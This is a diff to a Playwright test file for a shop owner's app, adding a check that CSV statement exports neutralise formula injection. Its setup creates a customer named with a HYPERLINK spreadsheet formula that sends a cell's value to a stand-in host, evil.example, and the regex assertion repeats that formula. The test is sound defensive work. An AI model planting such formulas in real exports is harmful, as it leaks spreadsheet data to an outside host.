@@ -1,9 +1,12 @@
 // Owner lists read by a shop owner, not a database: a long Plans & items list keeps its column names in view while
 // it scrolls (its box scrolls sideways at 200 % zoom, which made that box the header's sticky container, so the
-// header scrolled away with the rows), and the daily report's rows name their day as the shop reads it.
+// header scrolled away with the rows), and a statement saved as CSV keeps a name typed as a formula from running
+// in the owner's spreadsheet.
+import fs from 'node:fs';
+import path from 'node:path';
 import { expect, test } from '@playwright/test';
 import { clientId, hostPerFile } from './support/host';
-import { axe, shot } from './support/checks';
+import { axe, SCREENS, shot } from './support/checks';
 
 test.describe.configure({ mode: 'serial' });
 const host = hostPerFile();
@@ -15,6 +18,9 @@ test.beforeAll(async () => {
   for (let i = 1; i <= 40; i += 1) {
     await host.call('items.save', { clientId: clientId(), name: `Drink ${String(i).padStart(2, '0')}`, usageUnit: 'drink', rate: '1', cashPrice: '4.50', hotkey: null, category: 'Coffee' });
   }
+  const plan = await host.call<{ id: number }>('plans.save', { clientId: clientId(), name: '=1+1 Pass', credits: '10', price: '20', validity: 'month', overagePolicy: 'block' });
+  const c = await host.call<{ id: number }>('customers.create', { clientId: clientId(), name: '=HYPERLINK("http://evil.example/?"&B2,"Anna")' });
+  await host.call('passes.sell', { clientId: clientId(), customerId: c.id, planId: plan.id, paymentMethod: 'card' });
   await host.call('owner.lock');
 });
 
@@ -45,5 +51,30 @@ test('a 40-item list scrolls inside its box with the column names kept in view',
   await expect(table.getByRole('cell', { name: 'Drink 01', exact: true })).not.toBeInViewport();
   await shot(page, 'owner-lists-sticky-header');
   await axe(page, 'a long items list scrolled');
+  await context.close();
+});
+
+test('a statement saved as CSV keeps a name typed as a formula from running in a spreadsheet', async ({ browser }) => {
+  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, locale: 'en-US', timezoneId: 'America/New_York', acceptDownloads: true });
+  const page = await context.newPage();
+  await page.goto(host.url);
+  await page.getByRole('navigation', { name: 'Areas' }).getByRole('button', { name: 'Owner' }).click();
+  await page.getByLabel('Owner PIN').fill('2468');
+  await page.getByRole('button', { name: 'Unlock' }).click();
+  await page.getByRole('navigation', { name: 'Owner sections' }).getByRole('button', { name: 'Statements' }).click();
+  await page.getByLabel('Customer').fill('HYPER');
+  await page.getByRole('listbox', { name: 'Matching customers' }).getByRole('option', { name: /HYPERLINK/ }).click();
+  await page.getByLabel('From').fill('2026-03-01');
+  await page.getByLabel('To (including)').fill('2026-03-31');
+  await page.getByRole('button', { name: 'Show statement' }).click();
+  await expect(page.getByTestId('statement-preview').getByTestId('statement-doc')).toBeVisible();
+  const download = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'Save CSV…' }).click();
+  const file = path.join(SCREENS, 'owner-lists-statement.csv');
+  await (await download).saveAs(file);
+  const rows = fs.readFileSync(file, 'utf8').trim().split('\n').slice(1);
+  expect(rows.length).toBeGreaterThan(1);
+  // every row starts with the name as text ('=…), never a live formula; the plan name too
+  for (const row of rows) expect(row).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&B2,""Anna""\)",[A-Z0-9]+,\d+,'=1\+1 Pass,/);
   await context.close();
 });
